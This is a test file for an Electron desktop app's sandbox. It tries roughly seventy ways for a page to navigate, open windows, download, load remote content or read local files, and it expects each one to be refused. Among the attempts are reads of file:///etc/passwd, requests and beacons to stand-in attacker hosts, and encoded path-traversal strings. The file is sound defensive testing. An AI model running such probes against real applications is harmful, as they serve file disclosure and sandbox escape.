/** Every way we know for a page to go somewhere, load something, or open something: none leads anywhere. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { builtFile } from '../support/built-program.ts';
import { openDouble, type OpenedDouble } from '../support/electron-double/open.ts';

declare const window: Record<string, unknown>;

const main = builtFile('main/index.js');
const evil = 'https://app.gatescope.evil/';

let app: OpenedDouble;
let dataDir: string;
beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'gatescope-shell-'));
  app = await openDouble({ main, env: { GATESCOPE_DATA_DIR: dataDir } });
  await app.page.locator('#app > *').first().waitFor();
});
afterAll(async () => {
  await app.program.close();
  await rm(dataDir, { recursive: true, force: true, maxRetries: 5 });
});

type Where = { readonly url: string; readonly title: string; readonly pages: number; readonly sameDocument: unknown };
const where = async (): Promise<Where> => ({
  url: app.page.url(),
  // Not `page.title()`: Playwright takes a navigation that was refused for one that is still to come, and waits for it.
  title: await app.page.evaluate(() => document.title),
  pages: app.page.context().pages().length,
  sameDocument: await app.page.evaluate(() => window['sameDocument']),
});

let before: Where;
beforeEach(async () => {
  await app.page.evaluate(() => (window['sameDocument'] = true));
  before = await where();
});
afterEach(async () => {
  const { requests, navigations, windows, downloads } = await app.program.records();
  expect(downloads.filter(({ prevented }) => !prevented)).toEqual([]);
  expect(requests.filter(({ url, cancelled }) => !cancelled && !url.startsWith('app://gatescope/'))).toEqual([]);
  // Either would be enough for a page; a frame inside it is asked about by the first alone.
  for (const { url, refusedBy } of navigations)
    expect(refusedBy, url).toEqual(['will-frame-navigate', 'will-navigate']);
  expect(windows.filter(({ action }) => action !== 'deny')).toEqual([]);
});

/** Long enough for Chromium to ask, be refused, and have drawn another page had it not been. */
const settle = (): Promise<void> => new Promise((done) => setTimeout(done, 120));

/** A window that was refused takes a moment to be gone; a page that went away does not come back. */
const staysPut = async (after = ''): Promise<void> => {
  await settle();
  await expect.poll(where, { message: after, timeout: 5_000 }).toEqual(before);
};

/** A statement of the page; a throw is a refusal too. */
const tries = async (statement: string): Promise<void> => {
  await app.page.evaluate(`(() => { try { ${statement} } catch {} })()`);
};

const anchor = (attributes: Record<string, string>): string =>
  `const a = document.createElement('a'); a.textContent = 'x';
   for (const [k, v] of Object.entries(${JSON.stringify(attributes)})) a.setAttribute(k, v);
   document.body.append(a); a.click(); a.remove();`;
const element = (tag: string, attributes: Record<string, string>): string =>
  `const e = document.createElement('${tag}');
   for (const [k, v] of Object.entries(${JSON.stringify(attributes)})) try { e.setAttribute(k, v); } catch {}
   document.head.append(e); setTimeout(() => e.remove(), 100);`;
const form = (attributes: Record<string, string>): string =>
  `const f = document.createElement('form');
   for (const [k, v] of Object.entries(${JSON.stringify(attributes)})) f.setAttribute(k, v);
   document.body.append(f); try { f.submit(); } finally { f.remove(); }`;

const attempts: Readonly<Record<string, string>> = {
  'an address of the web': `location.href = '${evil}'`,
  'assign to the web': `location.assign('${evil}')`,
  'replace by the web': `location.replace('${evil}')`,
  'an address without a scheme': `location.href = '//evil.example/'`,
  'a host that looks like ours': `location.href = 'https://gatescope.evil/'`,
  'a host of our scheme that is not ours': `location.href = 'app://evil/'`,
  'another page of our own': `location.href = '/index.html'`,
  'our own page with a query': `location.search = '?x=1'`,
  'another host name': `location.host = 'evil.example'`,
  'another protocol': `location.protocol = 'http:'`,
  'a script as an address': `location.href = 'javascript:window.sameDocument=false;document.title=1'`,
  'a page as data': `location.href = 'data:text/html,<title>evil</title>'`,
  'a page as a blob': `location.href = URL.createObjectURL(new Blob(['<title>evil</title>'], { type: 'text/html' }))`,
  'a file': `location.href = 'file:///etc/passwd'`,
  'a file of Windows': `location.href = 'file:///C:/Windows/win.ini'`,
  'a share of Windows': `location.href = 'file://server/share/x'`,
  'the blank page': `location.href = 'about:blank'`,
  "the browser's own pages": `location.href = 'chrome://settings'`,
  'the developer tools': `location.href = 'devtools://devtools/bundled/inspector.html'`,
  'the source view': `location.href = 'view-source:${evil}'`,
  'another program': `location.href = 'ms-settings:display'`,
  'a mail': `location.href = 'mailto:a@evil.example'`,
  'a socket address': `location.href = 'ws://evil.example/'`,
  'a reload': `location.reload()`,
  'back to before the first page': `history.back()`,
  'another origin pushed into the history': `history.pushState(null, '', '${evil}')`,
  'the navigation object': `navigation.navigate('${evil}').finished.catch(() => {})`,
  'a link': anchor({ href: evil }),
  'a link to a new window': anchor({ href: evil, target: '_blank' }),
  'a link without an opener': anchor({ href: evil, target: '_blank', rel: 'noopener' }),
  'a link with a script': anchor({ href: 'javascript:window.sameDocument=false' }),
  'a link that saves': anchor({ href: evil, download: 'x.exe' }),
  'a link that saves data': anchor({ href: 'data:application/octet-stream,x', download: 'x.exe' }),
  'a link that pings': anchor({ href: evil, ping: evil }),
  'a new window': `window.open('${evil}')`,
  'a new window without an opener': `window.open('${evil}', '_blank', 'noopener')`,
  'a new window in our place': `window.open('${evil}', '_self')`,
  'a new window of data': `window.open('data:text/html,x')`,
  'a new window of a script': `window.open('javascript:opener.sameDocument=false')`,
  'a new window of our own': `window.open('/')`,
  'an empty new window': `window.open('')`,
  'a form': form({ action: evil }),
  'a form that posts': form({ action: evil, method: 'post' }),
  'a form in a new window': form({ action: evil, target: '_blank' }),
  'a form to our own page': form({ action: '/' }),
  'a refresh in the head': element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}` }),
  'another base': `${element('base', { href: evil })} ${anchor({ href: 'x' })}`,
  'a frame': element('iframe', { src: evil }),
  'a frame of data': element('iframe', { src: 'data:text/html,<script>top.location="https://evil.example"</script>' }),
  'a frame of our own': element('iframe', { src: '/' }),
  'an object': element('object', { data: evil }),
  'an embedded document': element('embed', { src: evil }),
  'a web view': element('webview', { src: evil }),
  'a portal to another page': element('link', { rel: 'prerender', href: evil }),
  'a prefetch': element('link', { rel: 'prefetch', href: evil }),
  'a style of the web': element('link', { rel: 'stylesheet', href: evil }),
  'a manifest of the web': element('link', { rel: 'manifest', href: evil }),
  'an image of the web': element('img', { src: evil }),
  'a script of the web': `const s = document.createElement('script'); s.src = '${evil}'; document.head.append(s)`,
  'a module of the web': `import('${evil}').catch(() => {})`,
  'a worker of the web': `new Worker('${evil}')`,
  'a worker of a blob': `new Worker(URL.createObjectURL(new Blob(['1'])))`,
  'a service worker': `navigator.serviceWorker.register('/index.html').catch(() => {})`,
  'a fetch': `fetch('${evil}').catch(() => {})`,
  'a fetch of a file': `fetch('file:///etc/passwd').catch(() => {})`,
  'a request of the old kind': `const x = new XMLHttpRequest(); x.open('GET', '${evil}'); x.send()`,
  'a beacon': `navigator.sendBeacon('${evil}', 'x')`,
  'a stream of events': `new EventSource('${evil}')`,
  'a socket': `new WebSocket('wss://evil.example/')`,
};

describe('where the page may not go', () => {
  it('knows at least forty ways', () => {
    expect(Object.keys(attempts).length).toBeGreaterThanOrEqual(40);
  });

  it.each(Object.entries(attempts))('stays where it is: %s', async (_, statement) => {
    await tries(statement);
    await staysPut();
  });

  it('stays where it is when an address is dropped on it', async () => {
    const devtools = await app.page.context().newCDPSession(app.page);
    const data = {
      items: [{ mimeType: 'text/uri-list', data: evil }],
      dragOperationsMask: 1,
    };
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
      await devtools.send('Input.dispatchDragEvent', { type, x: 700, y: 500, data });
    await staysPut();
  });

  it('stays where it is when a person clicks a link, with every key and button', async () => {
    const { page } = app;
    await page.evaluate((href) => {
      const a = document.createElement('a');
      Object.assign(a, { href, id: 'bait', textContent: 'bait' });
      document.body.prepend(a);
    }, evil);
    const [x, y] = await page.evaluate(() => {
      const { left, top } = document.querySelector('#bait')?.getBoundingClientRect() ?? { left: 0, top: 0 };
      return [left + 5, top + 5];
    });
    for (const key of ['', 'Control', 'Shift', 'Alt']) {
      if (key !== '') await page.keyboard.down(key);
      await page.mouse.click(x, y);
      if (key !== '') await page.keyboard.up(key);
      await staysPut(key);
    }
    await page.mouse.click(x, y, { button: 'middle' });
    await staysPut('middle');
    await page.evaluate(() => document.querySelector('#bait')?.remove());
  });

  it('still works after all of it', async () => {
    await app.page.keyboard.press('Control+2');
    await expect.poll(() => app.page.locator('main [data-pane]:visible').count()).toBeGreaterThan(0);
  });

  it('asked the program about each, and was refused', async () => {
    const { navigations, windows, downloads } = await app.program.records();
    expect(downloads.length).toBeGreaterThan(0);
    expect(navigations.length).toBeGreaterThan(10);
    expect(windows.length).toBeGreaterThan(5);
    expect(navigations.map(({ url }) => url)).toContain(evil);
    expect(windows.map(({ url }) => url)).toContain(evil);
  });
});

describe('what the page may load', () => {
  it.each([
    ['/', 200],
    ['/index.html', 200],
    ['/none', 404],
    ['/assets/', 404],
    ['/main/index.js', 404],
    ['/../main/index.js', 404],
    ['/%2e%2e/main/index.js', 404],
    ['/..%2fmain%2findex.js', 404],
    ['/index.html%00', 404],
    ['/INDEX.HTML', 404],
    ['/assets/%5c..%5c..%5cmain', 404],
    ['//evil.example/', undefined],
  ])('gets for %s the answer %s', async (path, status) => {
    const got = await app.page.evaluate(
      (asked) =>
        fetch(asked).then(
          (r) => r.status,
          () => undefined,
        ),
      path,
    );
    expect(got).toBe(status);
  });

  it('has the whole content policy in force', async () => {
    const policy = await app.page.evaluate(() => fetch('/').then((r) => r.headers.get('content-security-policy')));
    expect(policy).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
        "connect-src 'self'; worker-src 'self'; base-uri 'none'; form-action 'none'; frame-src 'none'; " +
        "frame-ancestors 'none'; object-src 'none'; require-trusted-types-for 'script'",
    );
  });
});
